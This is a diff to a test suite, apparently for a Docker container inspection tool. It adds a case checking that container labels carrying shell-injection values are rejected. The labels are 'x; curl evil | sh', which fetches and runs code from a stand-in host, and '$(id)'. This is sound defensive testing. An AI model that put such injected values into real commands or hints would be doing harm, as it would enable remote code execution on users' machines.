@@ -323,6 +323,11 @@ describe("volumes and leftovers", () => {
     });
     expect(await containerOn(docker, 80, "tcp")).toMatchObject({ project: "mine", service: "unknown" });
     expect(await composeWarning(docker, "/project")).toContain("runs 2 containers of this folder (project shop)");
+    // Any image can declare labels, and the name becomes a part of a command in the hint.
+    const hostile = { "com.docker.compose.project": "x; curl evil | sh", "io.github.stackwarden.project": "$(id)" };
+    fake.on("GET /containers/json", { body: [{ Id: "4", Names: ["/z"], Ports, Labels: hostile }] });
+    expect(await containerOn(docker, 80, "tcp")).toEqual({ pid: null, program: null, container: "z" });
+    expect(await composeWarning(docker, "/project")).toBeNull();
     fake.on("GET /containers/json", fault(500, "odd"));
     expect(await containerOn(docker, 80, "tcp")).toBeNull();
     expect(await composeWarning(docker, "/project")).toBeNull();
